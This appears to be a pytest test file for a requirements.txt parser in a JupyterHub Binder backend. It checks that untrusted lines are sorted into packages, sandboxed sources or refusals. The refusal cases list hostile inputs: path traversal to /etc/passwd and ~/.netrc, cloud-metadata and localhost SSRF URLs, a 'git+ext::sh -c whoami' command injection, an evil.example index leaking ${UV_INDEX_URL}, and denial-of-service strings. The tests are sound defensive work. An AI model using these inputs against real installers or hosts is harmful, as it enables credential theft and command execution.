"""Requirement lines of strangers: which reach uv, and which do not."""

from __future__ import annotations

import pytest

from jupyterhub_binder.backends.venv_requirements import Policy, Requirements, read_requirements

POLICY = Policy(index_urls=("https://index.example.org/simple", *Policy().index_urls))


def read(text: str, files: dict[str, str] | None = None) -> Requirements:
    load = (files or {}).get
    return read_requirements(text, path="requirements.txt", load=load, policy=POLICY)


def test_packages_are_taken_as_they_are_meant():
    found = read(
        "numpy==1.26.4  # fast\n\npandas[excel] >= 2 ; python_version > '3.8'\nx \\\n ==1\n"
    )
    assert found.packages == [
        "numpy==1.26.4",
        'pandas[excel]>=2; python_version > "3.8"',
        "x==1",
    ]
    assert not found.refused


def test_hashes_are_left_out_because_others_have_none():
    assert read("a==1 --hash=sha256:00 \\\n --hash=sha256:11").packages == ["a==1"]


def test_included_files_are_read_relative_to_their_folder():
    found = read("-r more/a.txt", {"more/a.txt": "-r b.txt\n-c c.txt", "more/b.txt": "cowsay",
                                   "more/c.txt": "cowsay<6"})  # fmt: skip
    assert found.packages == ["cowsay"]
    assert found.constraints == ["cowsay<6"]


def test_files_that_include_each_other_end():
    assert read("-r a.txt", {"a.txt": "-r requirements.txt\n-r a.txt\nx"}).packages == ["x"]


@pytest.mark.parametrize(
    "line",
    [
        "-r ../../etc/passwd",
        "-r /etc/passwd",
        "-r ~/.netrc",
        "-r %2e%2e/secret",
        "-c ../x",
        "-e ..",
        "-e /srv/jupyterhub-binder",
        "./../x",
        "/etc/x.whl",
        "file:///etc/x.whl",
        "x @ file:///etc/x.whl",
        "http://127.0.0.1:8081/hub/api",
        "x @ http://169.254.169.254/latest/meta-data",
        "x @ https://127.0.0.1/x.whl",
        "x @ https://github.com@127.0.0.1/x.whl",
        "x @ https://github.com:8081/x.whl",
        "git+ssh://git@github.com/x/y",
        "git+file:///srv/x",
        "git+https://127.0.0.1/x",
        "git+ext::sh -c whoami",
        "hg+https://github.com/x/y",
        "git+https://github.com/x/y --index-url http://127.0.0.1",
        "-i http://127.0.0.1:8081/simple",
        "--index-url=https://index.example.org.evil.example/simple",
        "--extra-index-url https://index.example.org@evil.example/simple",
        "-f /etc",
        "--find-links=file:///etc",
        "--trusted-host index.example.org",
        "--no-binary :all:",
        "--config-settings x",
        "x @ https://evil.example/${UV_INDEX_URL}",
        "${SECRET}",
        "x==1 --global-option=--help",
        "not a requirement at all",
        "x\x00y",
        "x\x1b[31m",
        "--unknown",
        "a; " + "(" * 1900 + "python_version>'3'" + ")" * 1900,
        "x" * 5000,
        "-",
    ],
)
def test_line_that_reaches_out_is_refused(line):
    found = read(line)
    assert not found.packages
    assert not found.sources
    assert not found.indexes
    assert len(found.refused) == 1


@pytest.mark.parametrize(
    ("line", "source"),
    [
        (".", "."),
        ("-e .", "-e ."),
        ("-e ./tools[all]", "-e ./tools[all]"),
        ("./a/../b", "./b"),
        ("git+https://github.com/x/y@v1#egg=y", "git+https://github.com/x/y@v1#egg=y"),
        ("https://github.com/x/y/releases/y.whl", "https://github.com/x/y/releases/y.whl"),
        ("y @ https://github.com/x/y.tar.gz", "y @ https://github.com/x/y.tar.gz"),
    ],
)
def test_whatever_is_not_from_an_index_is_for_the_sandbox(line, source):
    found = read(line)
    assert found.sources == [source]
    assert not found.packages
    assert not found.refused


def test_known_index_is_added():
    assert read("--extra-index-url https://download.pytorch.org/whl/cpu\ntorch").indexes == [
        "https://download.pytorch.org/whl/cpu"
    ]


def test_endless_file_ends():
    found = read("x\n" * 10_000)
    assert len(found.packages) <= 5000
    assert found.refused


@pytest.mark.parametrize("url", ["http://127.0.0.1:8081/x.whl", "file:///etc/x.whl", "./x.whl"])
def test_constraint_names_no_address_for_uv_to_fetch_on_the_host(url):
    found = read("-c limits.txt\nx\n", {"limits.txt": f"x @ {url}\n"})
    assert not found.constraints
    assert [one.path for one in found.refused] == ["limits.txt"]


@pytest.mark.parametrize("text", [" " * 900_000 + "x", "x" + " " * 900_000 + "x", "\\\n" * 300_000])
def test_work_grows_with_the_length_alone(text):
    # In the square of it this would take hours, and hold up everybody.
    assert len(read(text).refused) <= 1
